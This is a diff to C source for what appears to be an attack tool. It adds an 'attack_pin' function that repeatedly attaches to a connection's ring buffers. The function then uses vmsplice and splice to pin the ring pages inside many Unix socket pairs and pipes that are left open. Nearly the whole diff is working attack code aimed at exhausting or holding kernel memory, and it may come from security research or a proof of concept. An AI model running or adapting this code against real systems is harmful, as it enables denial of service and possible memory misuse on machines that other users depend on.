@@ -8,6 +8,8 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <sys/mman.h>
+#include <sys/socket.h>
+#include <sys/uio.h>
 #include <unistd.h>
 
 #include "connection.h"
@@ -31,6 +33,65 @@ void attack_keep(const struct attack_arguments *arguments)
 		kept++;
 	}
 	print_connections(kept);
+}
+
+/* As much as a pipe takes at once. */
+#define PIPE_BYTES (64u << 10)
+
+/* Moves references to pages into a socket, until it has no room. Returns their bytes. */
+static size_t pin_in(int socket, const int pipe_ends[2], unsigned char *pages, size_t bytes)
+{
+	struct iovec part = { .iov_base = pages,
+			      .iov_len = bytes < PIPE_BYTES ? bytes : PIPE_BYTES };
+	ssize_t piped = vmsplice(pipe_ends[1], &part, 1, 0);
+	ssize_t moved = 0, more;
+
+	if (piped < 0)
+		fail("vmsplice");
+	do {
+		more = splice(pipe_ends[0], NULL, socket, NULL, (size_t)(piped - moved),
+			      SPLICE_F_NONBLOCK);
+		moved += more > 0 ? more : 0;
+	} while (more > 0 && moved < piped);
+	return (size_t)moved;
+}
+
+/* Keeps all pages of a connection's rings.  Returns their bytes. */
+static size_t pin_all(const struct connection *connection)
+{
+	int pipe_ends[2] = { -1, -1 }, sockets[2] = { -1, -1 };
+	const int room = 8 << 20;
+	size_t at = 0, moved;
+
+	while (at < connection->bytes) {
+		/* The last pipe keeps what the last socket did not take, and both stay open. */
+		if (pipe(pipe_ends) || socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, sockets))
+			break;
+		setsockopt(sockets[0], SOL_SOCKET, SO_SNDBUF, &room, sizeof(room));
+		do {
+			moved = pin_in(sockets[0], pipe_ends, connection->rings + at,
+				       connection->bytes - at);
+			at += moved;
+		} while (moved && moved % PIPE_BYTES == 0 && at < connection->bytes);
+	}
+	return at;
+}
+
+void attack_pin(const struct attack_arguments *arguments)
+{
+	const struct application application = { .cpus = arguments->cpus, .events = 1, .lost = 1 };
+	uint32_t i, nr = 0;
+	size_t bytes = 0;
+
+	for (i = 0; i < arguments->nr; i++) {
+		if (attach(&connections[0], &application)) {
+			bytes += pin_all(&connections[0]);
+			nr++;
+		}
+		hang_up(&connections[0]);
+	}
+	printf("pinned %zu\n", bytes >> 10);
+	print_connections(nr);
 }
 
 void attack_holes(const struct attack_arguments *arguments)
